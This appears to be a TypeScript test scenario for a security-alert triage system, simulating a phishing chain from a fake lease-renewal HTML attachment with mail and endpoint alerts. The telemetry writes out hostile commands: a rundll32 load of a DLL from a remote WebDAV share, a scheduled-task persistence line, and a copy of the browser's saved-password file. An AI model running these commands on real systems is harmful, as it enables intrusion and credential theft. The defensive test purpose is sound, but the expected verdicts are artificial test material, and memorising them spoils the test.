// A mail with a page that opens a search on a foreign share, and then a shortcut starts a library from there.
import { alert, by, connected, hostile, ran, situation } from '../../shorthand.ts'

export const searchLinkInAMailThenAShortcut = situation(
  'search-link-in-a-mail-then-a-shortcut',
  'chains',
  'A lease that opens a search on a foreign share',
  (setting) => {
    const mei = setting.person('meiling.tan')
    const laptop = setting.laptopOf('meiling.tan')
    const delivered = setting.ago({ hours: 3, minutes: 50 })
    const at = setting.ago({ hours: 1, minutes: 33 })
    const ip = '45.9.74.166'
    const share = `\\\\${ip}@8888\\DavWWWRoot\\lease`
    const sender = 'leasing@keppelbay-estates.com'
    const subject = 'Renewal of lease, unit 14-03, please countersign'
    const message = setting.seeded.guid('lease mail')
    const page = setting.file('Lease_Renewal_2027.html')
    const load = `"C:\\Windows\\System32\\rundll32.exe" ${share}\\pdfrender.dll,DllRegisterServer`
    const task =
      'schtasks.exe /create /f /tn "AdobePdfRender" /sc minute /mo 20 /tr "rundll32.exe C:\\Users\\Public\\Libraries\\pdfrender.dll,DllRegisterServer"'
    return {
      alerts: [
        alert(setting, delivered + 60_000, 'sublime_security', 'Attachment: HTML with search protocol link', {
          api_version: '0',
          created_at: setting.iso(delivered + 60_000),
          id: setting.seeded.guid('sublime event'),
          type: 'message.flagged',
          data: {
            flagged_rules: [
              {
                id: setting.seeded.guid('sublime rule'),
                name: 'Attachment: HTML attachment with search-ms URI',
                severity: 'medium',
                tags: [],
                attack_types: ['Malware/Ransomware'],
                detection_methods: ['File analysis', 'HTML analysis'],
                tactics_and_techniques: ['HTML smuggling', 'Social engineering'],
                feed: 'Sublime Core Feed',
              },
              {
                id: setting.seeded.guid('sublime rule two'),
                name: 'First-time sender with attachment',
                severity: 'low',
                tags: [],
                attack_types: [],
                detection_methods: ['Sender analysis'],
                tactics_and_techniques: [],
                feed: 'Custom',
              },
            ],
            triggered_actions: [
              { id: setting.seeded.guid('sublime action'), name: 'Warning banner', type: 'warning_banner' },
            ],
            asa_verdict: { verdict: 'unknown', confidence: 'low' },
            message: {
              id: setting.seeded.guid('sublime message'),
              canonical_id: setting.seeded.hex('sublime canonical', 64),
              external_id: setting.seeded.hex('sublime external', 40),
              message_source_id: setting.seeded.guid('sublime source'),
              mailbox: { id: setting.seeded.guid('sublime mailbox'), email: mei.email },
              direction: 'inbound',
              landed_in_spam: false,
              state: 'delivered',
              data_model: {
                sender: {
                  email: { email: sender, domain: { root_domain: 'keppelbay-estates.com', tld: 'com' } },
                  display_name: 'Keppel Bay Leasing',
                },
                recipients: { to: [{ email: mei.email }], cc: [], bcc: [] },
                subject: { base: subject, is_reply: false, is_forward: false },
                headers: {
                  auth_summary: { spf: { pass: true }, dkim: { pass: true }, dmarc: { pass: false, policy: 'none' } },
                  message_id: `${setting.seeded.hex('lease id', 18)}@keppelbay-estates.com`,
                  hops: 4,
                  mailer: 'Roundcube Webmail/1.6.9',
                },
                attachments: [
                  {
                    file_name: 'Lease_Renewal_2027.html',
                    file_extension: 'html',
                    content_type: 'text/html',
                    size: 3618,
                    sha256: page.sha256,
                    md5: page.md5,
                    is_encrypted: false,
                  },
                ],
                body: { links: [], current_thread: { length: 412 }, has_images: false },
                profile: {
                  by_sender: { prevalence: 'new', solicited: false, days_known: 0, any_messages_malicious: false },
                },
              },
            },
          },
        }),
        alert(setting, at, 'secureworks_taegis', 'Rundll32 Loading Library Over WebDAV', {
          id: `alert://priv:event-filter:149122:${setting.seconds(at)}:${setting.seeded.guid('taegis alert')}`,
          tenant_id: '149122',
          status: 'OPEN',
          resolution_reason: null,
          suppressed: false,
          suppression_rules: [],
          priority: { value: 0.52, prioritizer: 'app:prioritizer:alert-scorer', model_version: '2.14.1' },
          metadata: {
            title: 'Rundll32 Loading Library Over WebDAV',
            description:
              'A library was loaded by rundll32 from a remote WebDAV path. Administrators rarely do this. Review the parent process and the remote location.',
            created_at: { seconds: setting.seconds(at) },
            began_at: { seconds: setting.seconds(at - 4000) },
            ended_at: { seconds: setting.seconds(at) },
            severity: 0.6,
            confidence: 0.7,
            creator: {
              detector: { detector_id: 'app:detect:event-filter', version: '4.9.0' },
              rule: { rule_id: setting.seeded.guid('taegis rule'), version: '7' },
            },
            engine: { name: 'app:event-filter' },
          },
          attack_technique_ids: ['T1218.011', 'T1105'],
          enrichment_details: [
            {
              mitre_attack_info: {
                technique_id: 'T1218.011',
                technique: 'Rundll32',
                tactics: ['defense-evasion'],
                type: 'technique',
              },
            },
          ],
          sensor_types: ['ENDPOINT_REDCLOAK'],
          data_sources: ['taegis-agent 2.3.4'],
          visibility: 'VISIBLE',
          entities: {
            entities: [
              `hostname:${laptop.host}`,
              `sensorHostId:${setting.seeded.hex('taegis host', 32)}`,
              `user:HAVSKOG\\${mei.account}`,
              `ipAddress:${laptop.ip}`,
              'processImage:rundll32.exe',
            ],
            relationships: [
              {
                from_entity: `user:HAVSKOG\\${mei.account}`,
                relationship: 'executed',
                to_entity: 'processImage:rundll32.exe',
              },
            ],
          },
          event_ids: [
            { id: `event://priv:scwx.process:149122:${setting.seconds(at)}:${setting.seeded.guid('taegis event')}` },
          ],
          events: [
            {
              schema: 'scwx.process',
              event_time: setting.iso(at - 4000),
              host_id: setting.seeded.hex('taegis host', 32),
              image_path: 'C:\\Windows\\System32\\rundll32.exe',
              commandline: load,
              parent_image_path: 'C:\\Windows\\explorer.exe',
              process_is_admin: false,
              target_program: { sha256: setting.file('rundll32.exe').sha256 },
              username: `HAVSKOG\\${mei.account}`,
              os: { os: 'OS_WINDOWS', arch: 'ARCH_X64' },
            },
          ],
          process_tree: [
            {
              depth: 0,
              image: 'C:\\Windows\\System32\\userinit.exe',
              pid: 6120,
              user: `HAVSKOG\\${mei.account}`,
              signed: true,
            },
            { depth: 1, image: 'C:\\Windows\\explorer.exe', pid: 6188, user: `HAVSKOG\\${mei.account}`, signed: true },
            {
              depth: 2,
              image: 'C:\\Windows\\System32\\rundll32.exe',
              pid: 14_204,
              user: `HAVSKOG\\${mei.account}`,
              signed: true,
            },
          ],
          host_info: {
            agent: { version: '2.3.4.1180', last_connect: setting.iso(at + 60_000), isolation_status: 'NOT_ISOLATED' },
            os: 'Windows 11 Enterprise 24H2',
            domain: 'havskog.local',
            tags: [{ key: 'site', value: 'Singapore' }],
            endpoint_group: 'Default',
          },
          references: ['https://attack.mitre.org/techniques/T1218/011/'],
          investigation_ids: [],
          collection_ids: [],
          third_party_details: [],
          link: 'https://ctpx.secureworks.com/alerts/149122',
        }),
      ],
      facts: {
        telemetry: [
          {
            table: 'EmailEvents',
            at: delivered,
            columns: {
              NetworkMessageId: message,
              SenderMailFromAddress: sender,
              SenderFromAddress: sender,
              SenderFromDomain: 'keppelbay-estates.com',
              RecipientEmailAddress: mei.email,
              Subject: subject,
              EmailDirection: 'Inbound',
              DeliveryAction: 'Delivered',
              DeliveryLocation: 'Inbox/folder',
              AuthenticationDetails: '{"SPF":"pass","DKIM":"pass","DMARC":"none"}',
              AttachmentCount: 1,
              UrlCount: 0,
            },
          },
          {
            table: 'EmailAttachmentInfo',
            at: delivered,
            columns: {
              NetworkMessageId: message,
              SenderFromAddress: sender,
              RecipientEmailAddress: mei.email,
              FileName: 'Lease_Renewal_2027.html',
              FileType: 'html',
              SHA256: page.sha256,
            },
          },
          ran(
            laptop,
            at - 90_000,
            'msedge.exe',
            `msedge.exe --single-argument "C:\\Users\\${mei.account}\\AppData\\Local\\Temp\\Lease_Renewal_2027.html"`,
            { ...by(mei), InitiatingProcessFileName: 'outlook.exe' },
          ),
          connected(laptop, at - 60_000, ip, {
            RemotePort: 8888,
            InitiatingProcessFileName: 'svchost.exe',
            InitiatingProcessCommandLine: 'svchost.exe -k LocalService -p -s WebClient',
          }),
          ran(laptop, at - 4000, 'rundll32.exe', load, { ...by(mei), InitiatingProcessFileName: 'explorer.exe' }),
          connected(laptop, at + 20_000, '185.225.74.31', {
            InitiatingProcessFileName: 'rundll32.exe',
            InitiatingProcessCommandLine: load,
            InitiatingProcessAccountName: mei.account,
          }),
          ran(laptop, at + 60_000, 'schtasks.exe', task, { ...by(mei), InitiatingProcessFileName: 'rundll32.exe' }),
          ran(
            laptop,
            at + 4 * 60_000,
            'cmd.exe',
            `cmd.exe /c copy "C:\\Users\\${mei.account}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data" C:\\Users\\Public\\Libraries\\l.db`,
            { ...by(mei), InitiatingProcessFileName: 'rundll32.exe' },
          ),
          ran(laptop, at + 5 * 60_000, 'nltest.exe', 'nltest /domain_trusts /all_trusts', {
            ...by(mei),
            InitiatingProcessFileName: 'rundll32.exe',
          }),
        ],
      },
      expected: { ...hostile(laptop.host), severities: ['high', 'critical'] },
      because:
        'She opened the page of a first-time sender, and minutes later a library from a foreign share ran on her laptop, called out, made a task that keeps it alive, copied the saved passwords and asked for the domain trusts. Nobody lists the addresses yet; the deeds are enough.',
    }
  },
)
